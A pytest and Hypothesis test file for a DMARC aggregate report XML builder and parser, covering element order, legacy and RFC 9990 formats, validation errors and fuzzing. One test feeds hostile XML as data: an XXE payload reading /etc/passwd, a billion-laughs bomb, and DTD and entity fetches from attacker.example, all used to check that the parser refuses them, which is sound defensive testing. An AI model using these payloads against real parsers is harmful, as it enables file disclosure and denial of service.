"""DMARC aggregate reports (RFC 9990, sections as numbered in draft-ietf-dmarc-aggregate-reporting-30): the
XML we write (namespace, version, element order, checks), reading it back, reading the RFC 7489 form that most
reporters send and the RFC 9990 form, refusing XML bombs and external entities, and the parser fuzzed."""

from __future__ import annotations

import dataclasses
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from postoffice.mailauth.dmarc_reports import (
    DISPOSITIONS,
    DKIM_RESULTS,
    DMARC_NAMESPACE,
    MAX_FREE_TEXT,
    MAX_XML_BYTES,
    OVERRIDE_REASONS,
    POLICIES,
    SPF_RESULTS,
    AggregateReport,
    DkimAuth,
    PolicyEvaluated,
    PolicyOverrideReason,
    PolicyPublished,
    ReportError,
    ReportRecord,
    SpfAuth,
    build_aggregate_xml,
    parse_aggregate_xml,
)

DATA = Path(__file__).parent / "data" / "reports"
NS = "{" + DMARC_NAMESPACE + "}"

RECORD = ReportRecord(
    source_ip="192.0.2.10",
    count=12,
    evaluated=PolicyEvaluated("pass", "pass", "fail"),
    header_from="example.com",
    envelope_from="bounces.example.com",
    dkim=(DkimAuth("example.com", "2024a", "pass"),),
    spf=(SpfAuth("bounces.example.com", "softfail"),),
)
FULL = AggregateReport(
    org_name="Postoffice at mail.example.org",
    email="dmarc-reports@mail.example.org",
    report_id="1700000000.example.com@mail.example.org",
    begin=1700000000,
    end=1700086399,
    policy=PolicyPublished(
        domain="example.com",
        p="reject",
        sp="quarantine",
        np="reject",
        adkim="s",
        aspf="r",
        testing="y",
        discovery_method="treewalk",
        fo="1:d",
    ),
    records=(
        RECORD,
        ReportRecord(
            source_ip="2001:db8::25",
            count=1,
            evaluated=PolicyEvaluated(
                "none",
                "fail",
                "fail",
                (PolicyOverrideReason("policy_test_mode", "t=y"), PolicyOverrideReason("local_policy")),
            ),
            header_from="sub.example.com",
            envelope_from="",
            envelope_to="mail.example.org",
            dkim=(
                DkimAuth("example.com", "2024a", "fail", "body hash did not verify"),
                DkimAuth("esp.example", "s1", "pass"),
            ),
            spf=(SpfAuth("mail.example.net", "none", human_result="no SPF record"),),
        ),
    ),
    extra_contact_info="https://mail.example.org/dmarc",
    errors=("sp=maybe: not a policy",),
    generator="Postoffice 0.1",
)
MINIMAL = AggregateReport(
    org_name="o",
    email="e@example.org",
    report_id="r1",
    begin=0,
    end=0,
    policy=PolicyPublished(domain="example.com", p="none"),
    records=(
        ReportRecord("192.0.2.1", 0, PolicyEvaluated("none", "fail", "fail"), header_from="example.com"),
    ),
)


def _children(element: ET.Element) -> list[str]:
    return [child.tag.removeprefix(NS) for child in element]


def test_a_built_report_reads_back_equal() -> None:
    assert parse_aggregate_xml(build_aggregate_xml(FULL)) == FULL
    assert parse_aggregate_xml(build_aggregate_xml(MINIMAL)) == MINIMAL


def test_the_document_has_the_namespace_version_and_the_tables_element_order() -> None:
    data = build_aggregate_xml(FULL)
    assert data.startswith(b"<?xml version='1.0' encoding='UTF-8'?>\n")
    root = ET.fromstring(data)  # noqa: S314 - our own document
    assert root.tag == NS + "feedback"
    assert _children(root) == ["version", "report_metadata", "policy_published", "record", "record"]
    assert root.findtext(NS + "version") == "1.0"
    meta = root.find(NS + "report_metadata")
    assert meta is not None
    assert _children(meta) == [
        "org_name",
        "email",
        "extra_contact_info",
        "report_id",
        "date_range",
        "error",
        "generator",
    ]
    policy = root.find(NS + "policy_published")
    assert policy is not None
    assert _children(policy) == [
        "domain",
        "discovery_method",
        "p",
        "sp",
        "np",
        "fo",
        "adkim",
        "aspf",
        "testing",
    ]
    record = root.findall(NS + "record")[1]
    assert _children(record) == ["row", "identifiers", "auth_results"]
    row = record.find(NS + "row")
    assert row is not None
    assert _children(row) == ["source_ip", "count", "policy_evaluated"]
    evaluated = row.find(NS + "policy_evaluated")
    assert evaluated is not None
    assert _children(evaluated) == ["disposition", "dkim", "spf", "reason", "reason"]
    identifiers = record.find(NS + "identifiers")
    assert identifiers is not None
    assert _children(identifiers) == ["header_from", "envelope_from", "envelope_to"]
    assert identifiers.findtext(NS + "envelope_from") == ""  # null reverse-path: present, empty
    auth = record.find(NS + "auth_results")
    assert auth is not None
    assert _children(auth) == ["dkim", "dkim", "spf"]
    assert [_children(child) for child in auth] == [
        ["domain", "selector", "result", "human_result"],
        ["domain", "selector", "result"],
        ["domain", "scope", "result", "human_result"],
    ]


def test_an_rfc7489_report_without_namespace_is_read() -> None:
    report = parse_aggregate_xml((DATA / "rfc7489-google-style.xml").read_bytes())
    assert (report.namespace, report.version) == ("", None)
    assert (report.org_name, report.report_id) == ("google.com", "5717107811868587391")
    assert (report.begin, report.end) == (1706832000, 1706918399)
    assert report.policy == PolicyPublished(
        domain="example.org", p="quarantine", sp="quarantine", np="quarantine", adkim="r", aspf="r", pct=100
    )
    first, second = report.records
    assert first.dkim == (DkimAuth("example.org", "20240101", "pass"),)
    assert first.spf == (SpfAuth("example.org", "pass", scope=None),)
    assert first.envelope_from is None
    assert second.source_ip == "2001:db8::42"
    assert second.header_from == "example.org"
    assert second.evaluated == PolicyEvaluated("quarantine", "fail", "fail")


def test_an_rfc7489_report_with_reasons_and_old_spf_names_is_read() -> None:
    report = parse_aggregate_xml((DATA / "rfc7489-microsoft-style.xml").read_bytes())
    assert report.version == "1.0"
    assert report.policy.fo == "0"
    (record,) = report.records
    assert record.evaluated.reasons == (PolicyOverrideReason("forwarded", "list.example.net"),)
    assert (record.envelope_to, record.envelope_from) == ("contoso.example", "list.example.net")
    assert [d.domain for d in record.dkim] == ["example.org", "list.example.net"]
    assert record.spf == (
        SpfAuth("list.example.net", "pass", scope="mfrom"),
        SpfAuth("mx.list.example.net", "temperror", scope="helo"),  # "unknown" is RFC 7489 era temperror
    )


def test_an_rfc9990_report_with_extensions_is_read() -> None:
    report = parse_aggregate_xml((DATA / "rfc9990-sample.xml").read_bytes())
    assert (report.namespace, report.version) == (DMARC_NAMESPACE, "1.0")
    assert report.generator == "Dmarcify 2000 milter v1.2"
    assert report.errors == ("Multiple DMARC Policy Records at _dmarc.sub.example.com",)
    assert report.policy == PolicyPublished(
        domain="example.com", p="quarantine", sp="none", np="reject", testing="n", discovery_method="treewalk"
    )
    (record,) = report.records
    assert record == ReportRecord(
        source_ip="192.168.4.4",
        count=123,
        evaluated=PolicyEvaluated("pass", "pass", "fail"),
        header_from="example.com",
        envelope_from="example.com",
        dkim=(DkimAuth("example.com", "abc123", "pass"),),
        spf=(SpfAuth("example.com", "fail", scope=None),),
    )


def test_the_pre_rfc_dmarc_org_namespace_is_read() -> None:
    data = build_aggregate_xml(MINIMAL).replace(DMARC_NAMESPACE.encode(), b"http://dmarc.org/dmarc-xml/0.1")
    report = parse_aggregate_xml(data)
    assert report.namespace == "http://dmarc.org/dmarc-xml/0.1"
    assert dataclasses.replace(report, namespace=DMARC_NAMESPACE) == MINIMAL


def test_elements_of_other_namespaces_and_unknown_elements_are_skipped() -> None:
    data = build_aggregate_xml(MINIMAL).replace(
        b"<policy_published>",
        b'<x:p xmlns:x="urn:other"><x:p>reject</x:p></x:p><novel><p>x</p></novel><policy_published>'
        b'<p xmlns="urn:other">reject</p><unknown_tag>1</unknown_tag>',
    )
    assert parse_aggregate_xml(data).policy.p == "none"


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<feedback><report_metadata><org_name>&xxe;</org_name></report_metadata></feedback>"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<feedback><report_metadata><org_name>&lol9;</org_name></report_metadata></feedback>"""


@pytest.mark.parametrize(
    "document",
    [
        XXE,
        LAUGHS,
        b'<!DOCTYPE feedback SYSTEM "http://attacker.example/dmarc.dtd"><feedback/>',
        b'<!DOCTYPE feedback [<!ENTITY % p SYSTEM "http://attacker.example/x">%p;]><feedback/>',
        b"<!DOCTYPE feedback><feedback/>",
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE f [<!ENTITY a "b">]><feedback/>'.encode("utf-16"),
    ],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity", "bare-doctype", "utf-16"],
)
def test_any_doctype_or_entity_declaration_is_refused(document: bytes) -> None:
    with pytest.raises(ReportError, match="DOCTYPE, entity and notation declarations"):
        parse_aggregate_xml(document)


def test_an_undeclared_entity_is_not_well_formed() -> None:
    with pytest.raises(ReportError, match="not well-formed"):
        parse_aggregate_xml(
            b"<feedback><report_metadata><org_name>&xxe;</org_name></report_metadata></feedback>"
        )


def test_size_and_depth_are_bounded() -> None:
    with pytest.raises(ReportError, match="larger than"):
        parse_aggregate_xml(b" " * (MAX_XML_BYTES + 1))
    with pytest.raises(ReportError, match="nested deeper"):
        parse_aggregate_xml(b"<feedback>" + b"<extension>" * 100 + b"</extension>" * 100 + b"</feedback>")


def test_free_text_is_cut_and_long_names_are_refused() -> None:
    long_text = "x" * (MAX_FREE_TEXT + 10)
    data = build_aggregate_xml(dataclasses.replace(MINIMAL, errors=(long_text,), generator=long_text))
    report = parse_aggregate_xml(data)
    assert report.errors == ("x" * MAX_FREE_TEXT,)
    assert report.generator == "x" * MAX_FREE_TEXT
    with pytest.raises(ReportError, match="longer than"):
        parse_aggregate_xml(build_aggregate_xml(dataclasses.replace(MINIMAL, org_name="o" * 5000)))


def _minimal_with(old: bytes, new: bytes) -> bytes:
    data = build_aggregate_xml(MINIMAL)
    assert old in data
    return data.replace(old, new)


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (b"<org_name>o</org_name>", b"", "org_name is missing"),
        (b"<org_name>o</org_name>", b"<org_name> </org_name>", "org_name is empty"),
        (b"<org_name>o</org_name>", b"<org_name>o</org_name><org_name>p</org_name>", "given 2 times"),
        (b"<begin>0</begin>", b"<begin>-1</begin>", "not a non-negative integer"),
        (b"<end>0</end>", b"<end>99999999999999999999</end>", "not a non-negative integer"),
        (b"<begin>0</begin>", b"<begin>5</begin>", "end 0 is before begin 5"),
        (b"<p>none</p>", b"<p>monitor</p>", "'monitor' is not one of none, quarantine, reject"),
        (b"<p>none</p>", b"<p>none</p><pct>150</pct>", "not a percentage"),
        (b"<source_ip>192.0.2.1</source_ip>", b"<source_ip>192.0.2.300</source_ip>", "not an IP address"),
        (b"<count>0</count>", b"<count>1.5</count>", "not a non-negative integer"),
        (b"<disposition>none</disposition>", b"<disposition>drop</disposition>", "disposition"),
        (b"<header_from>example.com</header_from>", b"", "header_from is missing"),
        (b"<auth_results />", b"", "auth_results is missing"),
        (
            b"<auth_results />",
            b"<auth_results><spf><domain>x</domain><result>bogus</result></spf></auth_results>",
            "bogus",
        ),
        (b"<feedback xmlns", b"<report xmlns", "not <feedback>"),
        (DMARC_NAMESPACE.encode(), b"urn:example:other", "unknown namespace"),
    ],
)
def test_malformed_reports_are_refused_with_a_reason(old: bytes, new: bytes, message: str) -> None:
    with pytest.raises(ReportError, match=message):
        parse_aggregate_xml(_minimal_with(old, new))


def test_a_report_without_records_is_refused() -> None:
    data = build_aggregate_xml(MINIMAL)
    start, end = data.index(b"<record>"), data.index(b"</record>") + len(b"</record>")
    with pytest.raises(ReportError, match="no <record>"):
        parse_aggregate_xml(data[:start] + data[end:])


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"records": ()}, "at least one record"),
        ({"org_name": ""}, "org_name must not be empty"),
        ({"org_name": "bell\x07"}, "cannot be written in XML"),
        ({"begin": 10, "end": 9}, "begin <= end"),
        ({"policy": PolicyPublished("example.com", "monitor")}, "policy_published/p"),
        ({"policy": PolicyPublished("example.com", "none", testing="maybe")}, "testing"),
        ({"records": (dataclasses.replace(RECORD, source_ip="example.com"),)}, "not an IP address"),
        ({"records": (dataclasses.replace(RECORD, count=-1),)}, "out of range"),
        ({"records": (dataclasses.replace(RECORD, spf=RECORD.spf * 2),)}, "at most one spf"),
        ({"records": (dataclasses.replace(RECORD, spf=(SpfAuth("x", "pass", scope="helo"),)),)}, "scope"),
        ({"records": (dataclasses.replace(RECORD, dkim=(DkimAuth("x", "s", "unknown"),)),)}, "dkim/result"),
        (
            {
                "records": (
                    dataclasses.replace(
                        RECORD,
                        evaluated=PolicyEvaluated(
                            "none", "pass", "pass", (PolicyOverrideReason("forwarded"),)
                        ),
                    ),
                )
            },
            "reason/type",
        ),
    ],
)
def test_the_builder_refuses_what_the_format_cannot_carry(change: dict[str, object], message: str) -> None:
    with pytest.raises(ReportError, match=message):
        build_aggregate_xml(dataclasses.replace(FULL, **change))  # type: ignore[arg-type]


# --- properties -------------------------------------------------------------------------------------------

_names = st.from_regex(r"[a-z0-9]([a-z0-9-]{0,10}[a-z0-9])?(\.[a-z0-9]{1,8}){0,3}", fullmatch=True)
_texts = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff"),
    min_size=1,
    max_size=30,
).filter(lambda s: s.strip() == s and s != "")
_ips = st.one_of(st.ip_addresses(v=4), st.ip_addresses(v=6)).map(lambda ip: ip.compressed)
_counts = st.integers(min_value=0, max_value=2**63 - 1)
_records = st.builds(
    ReportRecord,
    source_ip=_ips,
    count=_counts,
    evaluated=st.builds(
        PolicyEvaluated,
        disposition=st.sampled_from(DISPOSITIONS),
        dkim=st.sampled_from(("pass", "fail")),
        spf=st.sampled_from(("pass", "fail")),
        reasons=st.lists(
            st.builds(PolicyOverrideReason, st.sampled_from(OVERRIDE_REASONS), st.none() | _texts), max_size=2
        ).map(tuple),
    ),
    header_from=_names,
    envelope_from=st.none() | st.just("") | _names,
    envelope_to=st.none() | _names,
    dkim=st.lists(
        st.builds(DkimAuth, _names, _texts, st.sampled_from(DKIM_RESULTS), st.none() | _texts), max_size=3
    ).map(tuple),
    spf=st.lists(
        st.builds(
            SpfAuth,
            _names,
            st.sampled_from(SPF_RESULTS),
            st.sampled_from(("mfrom", None)),
            st.none() | _texts,
        ),
        max_size=1,
    ).map(tuple),
)
_reports = st.builds(
    AggregateReport,
    org_name=_texts,
    email=_texts,
    report_id=_texts,
    begin=st.integers(0, 2**40),
    end=st.integers(2**40, 2**41),
    policy=st.builds(
        PolicyPublished,
        domain=_names,
        p=st.sampled_from(POLICIES),
        sp=st.none() | st.sampled_from(POLICIES),
        np=st.none() | st.sampled_from(POLICIES),
        adkim=st.none() | st.sampled_from(("r", "s")),
        aspf=st.none() | st.sampled_from(("r", "s")),
        testing=st.none() | st.sampled_from(("n", "y")),
        discovery_method=st.none() | st.sampled_from(("psl", "treewalk")),
        fo=st.none() | st.sampled_from(("0", "1", "d:s")),
    ),
    records=st.lists(_records, min_size=1, max_size=4).map(tuple),
    extra_contact_info=st.none() | _texts,
    errors=st.lists(_texts, max_size=2).map(tuple),
    generator=st.none() | _texts,
)


@given(_reports)
def test_every_buildable_report_reads_back_equal(report: AggregateReport) -> None:
    assert parse_aggregate_xml(build_aggregate_xml(report)) == report


def _check_parse(data: bytes) -> None:
    try:
        report = parse_aggregate_xml(data)
    except ReportError:
        return
    assert report.records


@given(st.binary(max_size=2000))
@example(b"<feedback")
@example(b"<?xml version='1.0' encoding='euc-jp'?><feedback/>")
@example(b"<feedback xmlns='\x00'/>")
def test_garbage_bytes_give_a_report_error_or_a_report(data: bytes) -> None:
    _check_parse(data)


_SAMPLES = [build_aggregate_xml(FULL), *(p.read_bytes() for p in sorted(DATA.glob("*.xml")))]


@given(
    st.sampled_from(_SAMPLES),
    st.lists(
        st.tuples(st.integers(0, 5000), st.integers(0, 3), st.binary(max_size=12)), min_size=1, max_size=6
    ),
)
def test_damaged_reports_give_a_report_error_or_a_report(
    data: bytes, edits: list[tuple[int, int, bytes]]
) -> None:
    for position, cut, insert in edits:
        position %= len(data) + 1
        data = data[:position] + insert + data[position + cut :]
    _check_parse(data)


_TAGS = ["feedback", "report_metadata", "policy_published", "record", "row", "date_range", "p", "count", "x"]


@given(
    st.recursive(
        st.sampled_from(["", "1", "none", "192.0.2.1", "&amp;", "<![CDATA[<]]>"]),
        lambda inner: st.builds(
            lambda tag, parts: f"<{tag}>{''.join(parts)}</{tag}>",
            st.sampled_from(_TAGS),
            st.lists(inner, max_size=4),
        ),
        max_leaves=30,
    )
)
def test_random_element_trees_give_a_report_error_or_a_report(document: str) -> None:
    _check_parse(document.encode())
